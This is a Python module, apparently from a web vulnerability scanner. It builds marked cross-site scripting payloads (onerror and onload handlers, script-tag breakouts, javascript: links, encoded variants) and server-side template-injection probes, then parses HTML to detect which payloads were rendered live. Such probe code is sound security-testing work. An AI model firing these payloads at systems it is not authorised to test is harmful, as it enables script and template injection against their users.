"""Markup and template expressions that show themselves where they take effect, and how that is seen. Pure."""

from __future__ import annotations

from collections.abc import Iterator
from html.parser import HTMLParser

ATTRIBUTE = "data-lr"
_FACTORS = (48_611, 10_007)
PRODUCT = str(_FACTORS[0] * _FACTORS[1])
"""What a template makes of :data:`EXPRESSIONS`; it stands in none of them."""
_SUM = f"{_FACTORS[0]}*{_FACTORS[1]}"
# Jinja2, Twig, Handlebars and Vue; FreeMarker, Velocity and JSP; Ruby's interpolation; ERB and EJS.
EXPRESSIONS = f"{{{{{_SUM}}}}}${{{_SUM}}}#{{{_SUM}}}<%={_SUM}%>"


def names(mark: str) -> Iterator[str]:
    """Markup of at most 80 characters."""
    yield f"<img src=x {ATTRIBUTE}={mark} onerror=alert(1)>"
    yield f"\"'><svg {ATTRIBUTE}={mark} onload=alert(1)>"


def texts(mark: str) -> Iterator[str]:
    """Markup of any length, for attributes, elements, comments, links and what is decoded twice."""
    yield from names(mark)
    yield f"</textarea></title></style></script><script {ATTRIBUTE}={mark}>alert(1)</script>"
    yield f'--><iframe {ATTRIBUTE}={mark} srcdoc="<script>alert(1)</script>"></iframe>'
    yield f'<a {ATTRIBUTE}={mark} href="javascript:alert(1)">x</a> [x](javascript:alert(1)//{mark})'
    yield f"&lt;img src=x {ATTRIBUTE}={mark} onerror=alert(1)&gt; &#60;img {ATTRIBUTE}={mark}&#62;"
    yield f"%3Cimg%20src=x%20{ATTRIBUTE}={mark}%20onerror=alert(1)%3E \\u003cimg {ATTRIBUTE}={mark}\\u003e"


def injected(html: str, mark: str) -> list[str]:
    """The names of the elements that came out of a payload with ``mark``, by parsing ``html`` as a browser would."""
    finder = _Finder(mark)
    try:
        finder.feed(html)
        finder.close()
    except (AssertionError, ValueError):
        # What the parser gives up on, a browser does not: the raw text decides.
        return ["?"] if f"<img src=x {ATTRIBUTE}={mark}" in html else []
    return finder.found


class _Finder(HTMLParser):
    def __init__(self, mark: str) -> None:
        super().__init__(convert_charrefs=True)
        self._mark = mark
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """An element with our attribute, or a link that is a script with our mark."""
        given = {name: value or "" for name, value in attrs}
        runs = given.get("href", "").strip().lower().startswith("javascript:") and self._mark in given["href"]
        if given.get(ATTRIBUTE) == self._mark or runs:
            self.found.append(tag)
